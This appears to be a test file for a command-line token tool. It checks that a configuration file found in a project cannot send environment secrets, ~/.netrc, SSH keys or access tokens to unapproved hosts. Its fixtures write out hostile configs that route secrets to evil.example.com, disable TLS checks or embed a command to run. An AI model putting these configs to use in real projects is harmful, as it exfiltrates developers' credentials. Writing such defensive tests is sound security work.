// A project file that was found may use only what has been shown, each with the host it goes to.

import { statSync } from 'node:fs'
import { join } from 'node:path'
import { beforeEach, describe, expect, it } from 'vitest'
import { makeFolder, runProgram, writeFiles } from '../support/program.ts'

const CLIENT = `profiles:
  shop:
    provider: client-credentials
    token_endpoint: https://id.example.com/token
    client_id: shop
    client_secret: \${env:SHOP_SECRET}
    scopes:
      - orders.read
`
const env = { SHOP_SECRET: 'not-a-real-secret' }

let folder: string
beforeEach(() => {
  folder = makeFolder({ 'tokentool.yaml': CLIENT })
})

const dryRun = (args: readonly string[] = [], more: Record<string, string> = {}) =>
  runProgram(['get', '-n', ...args], { folder, env: { ...env, ...more } })
const trust = () => runProgram(['trust'], { folder, env })
const edit = (from: string, to: string) =>
  writeFiles(folder, { 'tokentool.yaml': CLIENT.replace(from, to) })

describe('a found file', () => {
  it('is refused what it has not been allowed, and told so with the host', async () => {
    const { code, stderr } = await dryRun()
    expect(code).toBe(2)
    expect(stderr).toContain('variable SHOP_SECRET → https://id.example.com')
    expect(stderr).toContain('tokentool trust')
  })

  it('may use it once it has been shown', async () => {
    const shown = await trust()
    expect(shown.stdout).toBe(
      'variable SHOP_SECRET → https://id.example.com\ntrusted tokentool.yaml\n',
    )
    expect((await dryRun()).code).toBe(0)
  })

  it('is remembered where nobody else can read or write', async () => {
    await trust()
    const store = join(folder, 'home/.local/state/tokentool/trusted.json')
    expect(statSync(store).mode & 0o777).toBe(0o600)
    expect(statSync(join(store, '..')).mode & 0o777).toBe(0o700)
  })

  it('is not trusted more because CI is set', async () => {
    expect((await dryRun([], { CI: 'true' })).code).toBe(2)
  })

  it('needs no trust when it is named, by flag or by variable', async () => {
    expect((await dryRun(['-c', 'tokentool.yaml'])).code).toBe(0)
    expect((await dryRun([], { TOKENTOOL_CONFIG: 'tokentool.yaml' })).code).toBe(0)
  })

  it('needs none for the sandbox', async () => {
    expect((await runProgram(['get', '--sandbox'], { folder, env })).code).toBe(0)
  })

  it('may send it to the address that was typed, once it has been shown at all', async () => {
    const typed = ['-s', 'token_endpoint=http://127.0.0.1:1/token']
    expect((await dryRun(typed)).code).toBe(2)
    await trust()
    expect((await dryRun(typed)).code).toBe(0)
  })
})

describe('after an edit', () => {
  beforeEach(async () => {
    await trust()
  })

  it('of a scope nothing is asked', async () => {
    edit('orders.read', 'orders.write')
    expect((await dryRun()).code).toBe(0)
  })

  it('of the host the difference is told, and only that', async () => {
    edit('id.example.com', 'evil.example.com')
    const { code, stderr } = await dryRun()
    expect(code).toBe(2)
    expect(stderr).toContain('variable SHOP_SECRET → https://evil.example.com')
    expect(stderr).not.toContain('https://id.example.com')
  })

  const GREEDY: readonly (readonly [what: string, from: string, to: string, shown: string])[] = [
    [
      'another variable',
      'client_id: shop',
      'client_id: ${env:HOME}',
      'variable HOME → https://id.example.com',
    ],
    [
      'a file',
      'client_id: shop',
      'client_id: ${file:~/.netrc}',
      'file ~/.netrc → https://id.example.com',
    ],
    [
      'a header',
      'client_id: shop',
      'client_id: shop\n    call:\n      headers:\n        X: ${env:AWS_KEY}',
      'variable AWS_KEY → https://id.example.com',
    ],
    [
      'a proxy',
      'client_id: shop',
      'client_id: shop\n    proxy: http://evil.example.com',
      'proxy http://evil.example.com → https://id.example.com',
    ],
    [
      'no verification',
      'client_id: shop',
      'client_id: shop\n    tls:\n      insecure: true',
      'tls.insecure → https://id.example.com',
    ],
    [
      'a key',
      'client_id: shop',
      'client_id: shop\n    client_auth: private_key_jwt\n    key_path: ~/.ssh/id_rsa',
      'key ~/.ssh/id_rsa → https://id.example.com',
    ],
  ]
  it.each(GREEDY)('%s is refused', async (_what, from, to, shown) => {
    edit(from, to)
    const { code, stderr } = await dryRun()
    expect(code).toBe(2)
    expect(stderr).toContain(shown)
  })

  it('a provider of the file is no way around it', async () => {
    writeFiles(folder, {
      'tokentool.yaml': `${CLIENT}  thief:
    provider: thief
providers:
  thief:
    fields:
      pin:
        type: text
        help: a pin
        default: \${env:THIEF_PIN}
    call:
      url: https://evil.example.com/
      headers:
        X-Key: \${env:SHOP_SECRET}
        X-Pin: \${pin}
`,
    })
    for (const args of [['thief'], ['--provider', 'thief'], ['shop', '--then', 'thief']]) {
      const { code, stderr } = await dryRun(args, { THIEF_PIN: '1234' })
      expect(code).toBe(2)
      expect(stderr).toContain('variable SHOP_SECRET → https://evil.example.com')
      expect(stderr).toContain('variable THIEF_PIN → https://evil.example.com')
    }
  })

  it.each([
    ['token_endpoint: https://evil.example.com/t', 'https://evil.example.com'],
    ['call:\n      url: https://evil.example.com/t', 'https://evil.example.com'],
  ])(
    "a profile that extends the user's own does not send its secrets elsewhere: %s",
    async (line, host) => {
      writeFiles(folder, {
        'home/.config/tokentool/tokentool.yaml': CLIENT.replace('shop:', 'own:'),
        'tokentool.yaml': `default_profile: thief\nprofiles:\n  thief:\n    extends: own\n    ${line}\n`,
      })
      const { code, stderr } = await dryRun()
      expect(code).toBe(2)
      expect(stderr).toContain(`variable SHOP_SECRET → ${host}`)
    },
  )

  it("the token of the user's own profile does not go to a new host", async () => {
    writeFiles(folder, {
      'home/.config/tokentool/tokentool.yaml': CLIENT.replace('shop:', 'own:'),
      'tokentool.yaml': `profiles:
  thief:
    provider: thief
    via: own
providers:
  thief:
    call:
      url: https://evil.example.com/
      headers:
        Authorization: Bearer \${via.access_token}
`,
    })
    const { code, stderr } = await dryRun(['thief'])
    expect(code).toBe(2)
    expect(stderr).toContain('the token of own → https://evil.example.com')
  })
})

describe('a command', () => {
  it('is not run, trusted or not', async () => {
    edit('${env:SHOP_SECRET}', '${command:touch ran}')
    await trust()
    const { code, stderr } = await dryRun()
    expect(code).toBe(2)
    expect(stderr).toContain('commands are not run')
    expect(() => statSync(join(folder, 'ran'))).toThrow()
  })
})
